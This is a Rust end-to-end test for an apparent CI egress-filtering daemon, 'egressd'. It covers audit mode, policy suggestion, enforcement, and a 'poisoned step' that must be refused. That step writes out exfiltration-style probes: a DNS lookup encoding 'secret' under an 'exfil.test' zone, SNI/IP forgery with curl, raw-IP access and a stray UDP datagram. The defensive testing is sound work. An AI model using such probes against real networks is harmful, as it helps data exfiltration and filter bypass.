//! The rollout path a runner goes through, with the real commands: `egressd
//! boot` in audit mode with nothing allowed, `egressd audit suggest` on its
//! journal, `egressd boot` enforcing the suggestion, `egressd job start|end
//! --fail-on-deny` around each step; then a poisoned step under the same
//! policy. Steps run in the boot's job cgroup as a runner runs them.

use std::net::SocketAddr;
use std::path::Path;
use std::process::Output;
use std::time::Duration;

use egressd_audit::{Kind, Record};
use egressd_e2e::step::Step;
use egressd_policy::{Reason, Verdict};

use super::world::{OTHER, RESOLVER4, Site, World};
use crate::runner::kit::{self, Boot, github_env};

/// Run `script` as a step of the current job of `boot` (in its job cgroup,
/// resolving through [`RESOLVER4`], which only egressd answers; the tool
/// steps of [`rollout`] stop at the first failing command).
pub fn step(world: &World, boot: &Boot, script: &str, env: &[(&str, &str)]) -> Step {
    egressd_e2e::step::run(
        &boot.jobs,
        world.ca(),
        RESOLVER4,
        script,
        env,
        Duration::from_secs(120),
    )
    .unwrap_or_else(|e| panic!("{e}"))
}

/// The policy of the first boot: audit mode, nothing allowed.
const AUDIT_NOTHING: &str = "version: 1\nmode: audit\n";

/// `egressd boot` with `policy` (a file in `dir`), resolving through the
/// world's upstream DNS.
fn boot(world: &World, dir: &Path, name: &str, policy: &str) -> Boot {
    let file = dir.join(name);
    std::fs::write(&file, policy).unwrap();
    Boot::start_resolving(
        &["--policy", file.to_str().unwrap()],
        &[],
        &world.dns_upstream().to_string(),
    )
}

/// One line per record, for failure messages and the evidence they carry.
pub fn describe(records: &[Record]) -> String {
    records
        .iter()
        .map(|r| {
            format!(
                "{:?} {:?} {} rule={} host={} dst={} pid={} comm={} detail={}",
                r.kind,
                r.decision,
                r.reason,
                r.rule,
                r.host.as_deref().unwrap_or("-"),
                r.dst.map_or_else(|| "-".to_owned(), |d| d.to_string()),
                r.process
                    .as_ref()
                    .and_then(|p| p.pid)
                    .map_or_else(|| "-".to_owned(), |p| p.to_string()),
                r.process
                    .as_ref()
                    .and_then(|p| p.comm.as_deref())
                    .unwrap_or("-"),
                r.detail.as_deref().unwrap_or("-"),
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The records of one job (`run_id` of the job name).
fn job_records(boot: &Boot, job: &str, run_id: &str) -> Vec<Record> {
    boot.records_of(&kit::tags(REPOSITORY, run_id, job))
}

const REPOSITORY: &str = "octo/corpus";

/// Run `script` as the single step of job `job` (run `run_id`): `job start`,
/// the step, `job end [--fail-on-deny]`. Returns the step, whether `job end`
/// succeeded (with its output) and the job's records.
fn run_job(
    world: &World,
    boot: &Boot,
    job: &str,
    run_id: &str,
    script: &str,
    env: &[(&str, &str)],
    fail_on_deny: bool,
) -> (Step, Output, Vec<Record>) {
    let genv = github_env(REPOSITORY, run_id, job);
    let started = boot.job(&["start"], &genv);
    assert!(
        started.status.success(),
        "job start: {}\n{}",
        String::from_utf8_lossy(&started.stderr),
        boot.log()
    );
    let s = step(world, boot, script, env);
    let mut end = vec!["end"];
    if fail_on_deny {
        end.push("--fail-on-deny");
    }
    let ended = boot.job(&end, &genv);
    let recs = job_records(boot, job, run_id);
    (s, ended, recs)
}

/// What the enforce run of a scenario left to check.
pub struct Enforced {
    /// The enforcing boot (for the poisoned step).
    pub boot: Boot,
    /// The policy it enforces (the suggestion).
    pub policy: String,
    /// The step under enforcement.
    pub step: Step,
    failures: Vec<String>,
    job: String,
    _dir: tempfile::TempDir,
}

/// The rollout path for one tool: (1) the step under `egressd boot` in audit
/// mode with nothing allowed (it must succeed), (2) `egressd audit suggest`
/// on that journal, (3) the same step under `egressd boot` enforcing the
/// suggestion. Whatever the enforce run got wrong (the step failed, a deny
/// record, `job end --fail-on-deny` failing) is kept, not asserted yet, so
/// that the poisoned step still runs and the failure names every false deny;
/// [`Enforced::finish`] asserts.
pub fn rollout(world: &World, job: &str, script: &str, env: &[(&str, &str)]) -> Enforced {
    let dir = tempfile::tempdir().unwrap();
    let mut audit = boot(world, dir.path(), "audit.yaml", AUDIT_NOTHING);
    let script = format!("set -e\n{script}");
    let (s, ended, recs) = run_job(world, &audit, job, "1", &script, env, false);
    assert_eq!(
        s.code(),
        Some(0),
        "{job} fails even in audit mode (a test setup problem):\n{}\nrecords:\n{}",
        s.output(),
        describe(&recs)
    );
    assert!(ended.status.success(), "job end in audit mode");
    let mut failures = Vec::new();
    let audit_denied: Vec<Record> = recs
        .iter()
        .filter(|r| r.decision == Verdict::Deny)
        .cloned()
        .collect();
    if !audit_denied.is_empty() {
        failures.push(format!(
            "false denies of {job} in audit mode (it lets everything through):\n{}",
            describe(&audit_denied)
        ));
    }
    let would_deny: Vec<Record> = recs
        .iter()
        .filter(|r| r.enforce_would == Some(Verdict::Deny))
        .cloned()
        .collect();
    assert!(
        !would_deny.is_empty(),
        "nothing is allowed yet: {job} was seen"
    );
    assert!(audit.terminate().success(), "{}", audit.log());

    let policy = egressd_e2e::boot::audit_suggest(&audit.path("audit"), REPOSITORY)
        .unwrap_or_else(|e| panic!("{e}"));

    let enforce = boot(world, dir.path(), "enforce.yaml", &policy);
    assert_eq!(enforce.ready()["state"], "enforcing", "{}", enforce.log());
    let (s, ended, recs) = run_job(world, &enforce, job, "2", &script, env, true);
    if s.code() != Some(0) {
        failures.push(format!(
            "{job} failed under the suggested policy:\n{}",
            s.output()
        ));
    }
    let denied: Vec<Record> = recs
        .iter()
        .filter(|r| r.decision == Verdict::Deny)
        .cloned()
        .collect();
    if !denied.is_empty() {
        failures.push(format!(
            "false denies of {job} under the suggested policy:\n{}",
            describe(&denied)
        ));
    }
    if !ended.status.success() {
        failures.push(format!(
            "job end --fail-on-deny failed after {job}: {}",
            String::from_utf8_lossy(&ended.stderr)
        ));
    }
    if !failures.is_empty() {
        failures.push(format!("the suggestion:\n{policy}"));
    }
    Enforced {
        boot: enforce,
        policy,
        step: s,
        failures,
        job: job.to_owned(),
        _dir: dir,
    }
}

/// One expected deny of the poisoned step.
struct Poison {
    what: &'static str,
    kind: Kind,
    reason: Reason,
    host: Option<String>,
    dst: Option<SocketAddr>,
    comm: &'static str,
}

/// The poisoned step's script: each probe records its exit code in `$T`.
fn poison_script(allowed: Site) -> String {
    let curl = |name: &str, extra: &str, url: &str| {
        format!(
            "curl -sS --max-time 20 --cacert \"$CA\" {extra} {url} -o /dev/null 2>\"$T/{name}.err\"; echo $? > \"$T/{name}\"\n"
        )
    };
    let mut s = String::new();
    s += &curl("unlisted", "", &format!("https://{}/", OTHER.name));
    s += &curl(
        "unlisted-ip",
        &format!("--resolve {}:443:{}", OTHER.name, OTHER.v4),
        &format!("https://{}/", OTHER.name),
    );
    s += &curl("raw-ip", "-k", &format!("https://{}/", OTHER.v4));
    s += &curl(
        "forged-name",
        &format!("--resolve {}:{}:{}", allowed.name, allowed.port, OTHER.v4),
        &format!("{}://{}/", allowed.scheme(), allowed.name),
    );
    s += &format!(
        "/usr/bin/python3 -c 'import socket; socket.getaddrinfo(\"c2vjcmv0.exfil.{}\", 443)' 2>\"$T/dns.err\"; echo $? > \"$T/dns\"\n",
        "test"
    );
    s += &format!(
        "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"{}\", 9999))' 2>\"$T/udp.err\"; echo $? > \"$T/udp\"\n",
        allowed.v4
    );
    s
}

impl Enforced {
    /// (4) A poisoned step in a new job under the same policy: HTTPS to an
    /// unlisted name (by DNS and with its address forced), to the raw IP of
    /// a server no allowed name resolved to (an IP answered for an allowed
    /// name is allowed without a name, by design), the name of `allowed`
    /// (SNI, or Host over plain HTTP) sent to another server, a DNS lookup
    /// of a label under a zone nothing allows, a UDP datagram to a non-DNS
    /// port. Each is refused, audited with its process, and `job end
    /// --fail-on-deny` fails. Then every failure kept is asserted.
    pub fn poison_and_finish(mut self, world: &World, allowed: Site) {
        let (s, ended, recs) = run_job(
            world,
            &self.boot,
            &self.job,
            "3",
            &poison_script(allowed),
            &[],
            true,
        );
        let v4 = |ip: &str, port: u16| Some(SocketAddr::new(ip.parse().unwrap(), port));
        let expected = [
            Poison {
                what: "unlisted",
                kind: Kind::Dns,
                reason: Reason::DnsRefused,
                host: Some(OTHER.name.into()),
                dst: None,
                comm: "curl",
            },
            Poison {
                what: "unlisted-ip",
                kind: Kind::Tcp,
                reason: Reason::NoRule,
                host: Some(OTHER.name.into()),
                dst: v4(OTHER.v4, 443),
                comm: "curl",
            },
            Poison {
                what: "raw-ip",
                kind: Kind::Tcp,
                reason: Reason::NoSni,
                host: None,
                dst: v4(OTHER.v4, 443),
                comm: "curl",
            },
            Poison {
                what: "forged-name",
                kind: Kind::Tcp,
                reason: Reason::SniIpMismatch,
                host: Some(allowed.name.into()),
                dst: v4(OTHER.v4, allowed.port),
                comm: "curl",
            },
            Poison {
                what: "dns",
                kind: Kind::Dns,
                reason: Reason::DnsRefused,
                host: Some("c2vjcmv0.exfil.test".into()),
                dst: None,
                comm: "python3",
            },
            Poison {
                what: "udp",
                kind: Kind::Udp,
                reason: Reason::UdpBlocked,
                host: None,
                dst: v4(allowed.v4, 9999),
                comm: "python3",
            },
        ];
        for p in &expected {
            let code = s.read(p.what);
            if code == "0" || code.is_empty() {
                self.failures.push(format!(
                    "poisoned {}: the probe was not refused (exit {code:?}): {}",
                    p.what,
                    s.read(&format!("{}.err", p.what))
                ));
            }
            let found = recs.iter().find(|r| {
                r.kind == p.kind
                    && r.decision == Verdict::Deny
                    && r.host == p.host
                    && (p.dst.is_none() || r.dst == p.dst)
            });
            match found {
                None => self.failures.push(format!(
                    "poisoned {}: no {:?} deny record for {:?} {:?}",
                    p.what, p.kind, p.host, p.dst
                )),
                Some(r) => {
                    let proc_ = r.process.as_deref();
                    if r.reason != p.reason
                        || proc_.and_then(|p| p.pid).is_none()
                        || proc_.and_then(|p| p.comm.as_deref()) != Some(p.comm)
                    {
                        self.failures.push(format!(
                            "poisoned {}: expected {} by {} with a pid, got: {}",
                            p.what,
                            p.reason,
                            p.comm,
                            describe(std::slice::from_ref(r))
                        ));
                    }
                }
            }
        }
        if ended.status.code() != Some(1) {
            self.failures.push(format!(
                "job end --fail-on-deny after the poisoned step exited {:?}, not 1",
                ended.status.code()
            ));
        }
        let leaked: Vec<String> = world
            .upstream_queries()
            .into_iter()
            .filter(|q| q.contains("exfil") || q == OTHER.name)
            .collect();
        if !leaked.is_empty() {
            self.failures.push(format!(
                "refused names reached the upstream DNS: {leaked:?}"
            ));
        }
        let status = self.boot.terminate();
        assert!(
            self.failures.is_empty(),
            "{}:\n\n{}\n\nall records of the poisoned job:\n{}",
            self.job,
            self.failures.join("\n\n"),
            describe(&recs)
        );
        assert!(status.success(), "{}", self.boot.log());
    }
}
